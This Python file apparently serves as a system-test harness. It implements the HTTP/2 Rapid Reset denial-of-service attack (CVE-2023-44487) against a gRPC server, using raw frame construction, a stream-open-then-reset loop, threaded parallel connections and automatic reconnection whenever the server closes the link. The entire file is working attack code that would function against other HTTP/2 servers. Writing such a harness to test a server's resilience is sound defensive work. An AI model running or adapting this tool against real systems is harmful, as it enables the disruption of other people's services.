"""An HTTP/2 client that opens streams and resets them at once (CVE-2023-44487), in raw frames.

Bounded in time; it reads and acknowledges what the server says, as a lawful client does. It runs in a
process of its own (``python -m tests.system.rapid_reset``), so that it does not slow its victims down.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
ACK, END_STREAM, END_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
SECONDS = 60.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame, RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """One header field without indexing, RFC 7541, section 6.2.2; texts below 127 bytes."""
    parts = (bytes([len(text)]) + text.encode() for text in (name, value))
    return b"\x00" + b"".join(parts)


def headers_of(path: str) -> bytes:
    """The header block of a gRPC call."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(literal(name, value) for name, value in fields.items())


@dataclass
class Tally:
    """Result of an attack.

    Args:
        streams: How many were opened, over all connections.
        closed: How often the server ended a connection, or refused one.
    """

    streams: int = 0
    closed: int = 0


@dataclass
class Attack:
    """Opens streams and resets them at once, for some time; connects again where it is cut off.

    Args:
        at_once: Streams in one write.
        resets: Whether streams are reset; else they are left open.
    """

    address: str
    person: Path
    path: str
    at_once: int = 100
    resets: bool = True
    tally: Tally = field(default_factory=Tally)
    _buffered: bytes = b""

    def run(self, seconds: float) -> Tally:
        """Attack for as many seconds, and count."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                with _connected(self.address, self.person) as secured:
                    self._attack(secured, end)
            except OSError:
                self.tally.closed += 1
        return self.tally

    def _attack(self, secured: ssl.SSLSocket, end: float) -> None:
        """Raises OSError once the server ends the connection."""
        block, number, self._buffered = headers_of(self.path), 1, b""
        secured.sendall(PREFACE + frame(SETTINGS, 0, 0))
        while time.monotonic() < end:
            numbers = range(number, number + 2 * self.at_once, 2)
            secured.sendall(b"".join(self._stream(stream, block) for stream in numbers))
            number += 2 * self.at_once
            self.tally.streams += self.at_once
            self._read(secured)

    def _stream(self, number: int, block: bytes) -> bytes:
        opening = frame(HEADERS, END_HEADERS, number, block)
        return opening + frame(RST_STREAM, 0, number, CANCEL) if self.resets else opening

    def _read(self, secured: ssl.SSLSocket) -> None:
        """Take what has come, and acknowledge settings and pings; raises OSError at the end."""
        while secured.pending() or select.select([secured], [], [], 0)[0]:
            piece = secured.recv(65_536)
            if not piece:
                raise ConnectionResetError
            self._buffered = self._answer(secured, self._buffered + piece)

    @staticmethod
    def _answer(secured: ssl.SSLSocket, buffered: bytes) -> bytes:
        """Acknowledge settings and pings; returns what is left of an unfinished frame."""
        while len(buffered) >= 9 and len(buffered) >= 9 + int.from_bytes(buffered[:3], "big"):
            size = 9 + int.from_bytes(buffered[:3], "big")
            kind, flags, payload = buffered[3], buffered[4], buffered[9:size]
            buffered = buffered[size:]
            if kind in (SETTINGS, PING) and not flags & ACK:
                secured.sendall(frame(kind, ACK, 0, payload if kind == PING else b""))
            elif kind == GOAWAY:
                raise ConnectionResetError
        return buffered


def _connected(address: str, person: Path) -> ssl.SSLSocket:
    host, port = address.split(":")
    context = ssl.create_default_context(cafile=person / "authority.pem")
    context.load_cert_chain(person / "certificate.pem", person / "key.pem")
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((host, int(port)), timeout=SECONDS)
    return context.wrap_socket(plain, server_hostname=host)


def main() -> None:
    """``ADDRESS FOLDER PATH SECONDS STREAMS-AT-ONCE CONNECTIONS``: attack, and print the tally."""
    address, person, path, seconds, at_once, connections = sys.argv[1:]
    attacks = [Attack(address, Path(person), path, int(at_once)) for _ in range(int(connections))]
    with ThreadPoolExecutor(len(attacks)) as pool:
        tallies = list(pool.map(lambda attack: attack.run(float(seconds)), attacks))
    tally = Tally(sum(each.streams for each in tallies), sum(each.closed for each in tallies))
    sys.stdout.write(json.dumps(asdict(tally)))


if __name__ == "__main__":
    main()
